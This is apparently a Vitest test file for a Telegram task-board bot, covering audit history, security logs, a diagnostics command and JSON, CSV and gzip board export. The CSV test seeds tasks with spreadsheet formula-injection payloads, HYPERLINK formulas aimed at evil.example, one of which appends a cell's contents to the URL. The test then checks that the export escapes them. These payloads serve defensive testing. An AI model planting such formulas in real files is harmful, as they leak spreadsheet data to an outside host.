import { gunzipSync } from 'node:zlib'
import Papa from 'papaparse'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { tasks } from '../../../src/db/schema.ts'
import { authenticate, createToken } from '../../../src/domain/access/tokens.ts'
import { requireProject } from '../../../src/domain/projects/read.ts'
import { editTask } from '../../../src/domain/tasks/edit/edit.ts'
import { virtualUser } from '../../../src/playground/client/virtual-user.ts'
import { openTestBot, type TestBot } from '../../support/bot.ts'
import { addTasks, labelsOn } from '../../support/chat.ts'

let bot: TestBot

beforeEach(async () => {
  bot = await openTestBot()
})

afterEach(async () => {
  expect(bot.world.violations).toEqual([])
  await bot.close()
})

/** Returns the content of the bot's next document. */
const nextFile = async () => {
  const { document } = await bot.user.nextMessage()
  const file = bot.world.files.get(document?.file_id ?? '')
  return { name: document?.file_name, bytes: Buffer.from(file?.bytes ?? []) }
}

describe('/audit', () => {
  test('describes what was changed and by whom', async () => {
    const [task] = await addTasks(bot, [{ title: 'One' }])
    await editTask(bot.ctx, task?.id ?? '', {
      status: 'todo',
      priority: 'high',
      dueAt: new Date('2035-12-01T22:59:00Z'),
    })

    bot.user.sendText('/audit web-1')

    const { text } = await bot.user.nextMessage('Change history of WEB-1')
    expect(text).toMatch(/WEB-1 Inbox → Todo, priority none → high, due none → Sat 1 Dec 2035 · you/)
    expect(text).toMatch(/WEB-1 created · you/)
  })

  test('pages to the oldest entry and back', async () => {
    await addTasks(
      bot,
      Array.from({ length: 30 }, (_, index) => ({ title: `Task ${index + 1}` })),
    )
    bot.user.sendText('/audit')
    const first = await bot.user.nextMessage('WEB-30')
    bot.user.tap('Older ›')
    const second = await bot.user.nextEdit('WEB-18')
    bot.user.tap('Older ›')
    const last = await bot.user.nextEdit('WEB-6')
    bot.user.tap('‹ Newest')
    await bot.user.nextEdit('WEB-30')

    const tasksOn = (text = ''): string[] => text.match(/WEB-\d+/g) ?? []
    expect(tasksOn(first.text).filter((key) => tasksOn(second.text).includes(key))).toEqual([])
    expect(last.text).toContain('project created')
    expect(labelsOn(last)).toEqual(['‹ Newest'])
  })
})

test('/security lists strangers and rejected tokens', async () => {
  const stranger = virtualUser(bot.world, { userId: 2002, firstName: 'Eve', started: true })
  stranger.sendText('let me in')
  await bot.handled()
  await fetch(`${bot.url()}/api/tasks`, { headers: { authorization: 'Bearer preq_wrong' } })

  bot.user.sendText('/security')

  const { text } = await bot.user.nextMessage('Security')
  expect(text).toContain('Ignored a message from user 2002')
  expect(text).toContain('Token rejected')
})

test('/doctor shows a problem with its fix', async () => {
  bot.world.bot.user.supports_inline_queries = false
  await bot.restart()
  bot.user.sendText('/doctor')

  const { text } = await bot.user.nextMessage('🩺')

  expect(text).toContain('Inline search: off.')
  expect(text).toContain('/setinline')
  expect(text).toContain('\nBot token: ')
})

describe('/export', () => {
  test('sends the whole board as JSON without secrets', async () => {
    await addTasks(bot, [{ title: 'One', description: 'A note', labels: ['backend'] }])
    const { token } = await createToken(bot.ctx, { name: 'laptop' })

    bot.user.sendText('/export')
    const { name, bytes } = await nextFile()

    const board = JSON.parse(bytes.toString('utf8'))
    expect(name).toMatch(/^board-\d{4}-\d\d-\d\d\.json$/)
    expect(board).toMatchObject({
      projects: [{ projectKey: 'WEB' }],
      labels: [{ name: 'backend' }],
      tokens: [{ name: 'laptop' }],
      tasks: [{ key: 'WEB-1', title: 'One', note: 'A note' }],
    })
    expect(board.auditLogs.length).toBeGreaterThan(3)
    expect(board.tokens[0]).not.toHaveProperty('tokenHash')
    expect(bytes.toString('utf8')).not.toContain(token)
    expect(board.settings.map((setting: { key: string }) => setting.key)).not.toContain('telegram_bot_token')
    expect(await authenticate(bot.db, token, new Date())).toMatchObject({ ok: true })
  })

  test('sends the tasks as CSV without runnable formulas', async () => {
    await addTasks(bot, [
      { title: '=HYPERLINK("http://evil.example","x")' },
      { title: 'Quotes " and, commas', description: 'two\nlines' },
      { title: '＝1+1', description: '=HYPERLINK("https://evil.example/?"&A2,"open")\nsecond line' },
    ])

    bot.user.sendText('/export')
    await nextFile()
    const { name, bytes } = await nextFile()

    const { data } = Papa.parse<Record<string, string>>(bytes.toString('utf8').replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    })
    expect(name).toMatch(/-tasks\.csv$/)
    expect(data.map((row) => row.title)).toEqual([
      `'=HYPERLINK("http://evil.example","x")`,
      'Quotes " and, commas',
      "'＝1+1",
    ])
    expect(data[1]?.note).toBe('two\nlines')
    expect(data[2]?.note).toBe(`'=HYPERLINK("https://evil.example/?"&A2,"open")\nsecond line`)
  })

  test('compresses a large board', async () => {
    const { id: projectId } = await requireProject(bot.scope, 'WEB')
    const many = Array.from({ length: 2_001 }, (_, index) => index + 1)
    await bot.db.insert(tasks).values(
      many.map((number) => ({
        ...{ ownerId: bot.scope.ownerId, projectId, taskPrefix: 'WEB', sortOrder: `a${number}` },
        ...{ taskKey: `WEB-${number}`, taskNumber: number, title: `Task ${number}` },
      })),
    )

    bot.user.sendText('/export')
    const { name, bytes } = await nextFile()

    expect(name).toMatch(/\.json\.gz$/)
    expect(JSON.parse(gunzipSync(bytes).toString('utf8')).tasks).toHaveLength(2_001)
  }, 30_000)
})
